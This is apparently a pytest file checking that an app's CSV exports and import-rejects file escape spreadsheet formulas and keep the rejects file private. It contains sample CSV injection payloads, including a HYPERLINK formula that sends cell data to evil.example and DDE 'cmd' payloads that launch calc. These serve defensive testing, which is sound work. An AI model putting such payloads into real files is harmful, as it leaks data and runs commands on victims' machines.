"""Every CSV a person may open is written by one writer that keeps formulas as text (issue 12.6): call and gift
lists, the rejects of an import, segment exports. And the rejects file (customers' rows) is private (12.7)."""

from __future__ import annotations

import csv
import re
import stat
from pathlib import Path

import pytest

from console.spreadsheet import safe_cell
from tests.campaign_support import add_template, add_users, load_workspace, write_config

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1, "click")', "+cmd|' /C calc'!A0", "=1+2", "@SUM(A1:A9)",
           "-2+3+cmd|' /C calc'!A0", "\t=1+2", "\r=1+2"]


def formulas(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run: starting with = + - @ TAB CR, unless a plain number or phone number."""
    return [c for c in cells if c and c[0] in "=+-@\t\r" and not re.fullmatch(r"[+-]?[0-9][0-9 .,()-]*", c)]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_becomes_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["+8613800138000", "-12.5", "+1 (555) 010-0000", "王芳", "", None, 3, "a=b"])
def test_numbers_phones_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_nothing_in_console_writes_csv_except_the_safe_writer():
    """One writer for every CSV: a new export that reaches for csv.writer is caught here."""
    root = Path(__file__).resolve().parent.parent
    offenders = [str(p.relative_to(root)) for p in (root / "console").rglob("*.py")
                 if p.name != "spreadsheet.py" and re.search(r"csv\.(writer|DictWriter)\(", p.read_text("utf-8"))]
    assert offenders == []


def _hostile_users(db, n: int) -> None:
    for i in range(1, n + 1):
        db.execute("UPDATE users SET name = ?, region = ? WHERE external_id = ?",
                   [HOSTILE[(i - 1) % len(HOSTILE)], HOSTILE[i % len(HOSTILE)], f"u{i}"])


@pytest.mark.parametrize("channel, template", [
    ("call", 'name = "t"\nchannel = "call"\nbody = "{{ user.name }}"\nfields = ["user.name", "user.region"]\n'),
    ("gift", 'name = "t"\nchannel = "gift"\nfields = ["user.name", "user.region"]\n'),
])
def test_call_and_gift_lists_keep_formulas_as_text(tmp_path, monkeypatch, channel, template):
    from console.campaigns import control, model

    monkeypatch.chdir(tmp_path)
    cfg = write_config(tmp_path / "winback.toml", {channel: {"transport": "csv",
                                                              "path": f"exports/{channel}-{{campaign}}.csv"}})
    ws = load_workspace(cfg)
    db = ws.open()
    add_users(db, len(HOSTILE), consent=(channel,))
    add_template(db, ws.config, template)   # saved with harmless sample names
    _hostile_users(db, len(HOSTILE))
    model.create(db, "c", segment="all", channel=channel, template="t", holdout=0)
    control.launch(db, ws.config, "c", real=True)
    path = tmp_path / "exports" / f"{channel}-c.csv"
    rows = list(csv.reader(path.open(encoding="utf-8-sig", newline="")))
    cells = [c for row in rows[1:] for c in row]
    assert len(rows) == 1 + len(HOSTILE)
    assert formulas(cells) == []
    names = [r[rows[0].index("user.name")] for r in rows[1:]]
    assert sorted(n[1:] for n in names) == sorted(HOSTILE)     # the apostrophe is all that was added
    assert all(r[rows[0].index("to")].startswith("+86") for r in rows[1:])   # phones stay numbers
    db.close()


def test_the_rejects_file_keeps_formulas_as_text_and_is_private(cli, tmp_path):
    path = tmp_path / "users.csv"
    lines = ["external_id,name,phone,=cmd|' /C calc'!A0"]
    for i, value in enumerate(HOSTILE):
        lines.append(f'u{i},"{value.replace(chr(34), chr(34) * 2)}",not-a-phone,"{value.replace(chr(34), chr(34) * 2)}"')
    lines.append("ok,Ann,+8613800000001,x")
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = cli("import", "users", str(path), "--skip-invalid")
    assert result.exit_code == 0, result.output
    rejects = tmp_path / "users.csv.rejects.csv"
    rows = list(csv.reader(rejects.open(encoding="utf-8-sig", newline="")))
    assert len(rows) == 1 + len(HOSTILE)
    assert formulas([c for row in rows for c in row]) == []
    assert stat.S_IMODE(rejects.stat().st_mode) == 0o600
    # An older rejects file that was world-readable is made private when it is written again.
    rejects.chmod(0o644)
    assert cli("import", "users", str(path), "--skip-invalid").exit_code == 0
    assert stat.S_IMODE(rejects.stat().st_mode) == 0o600
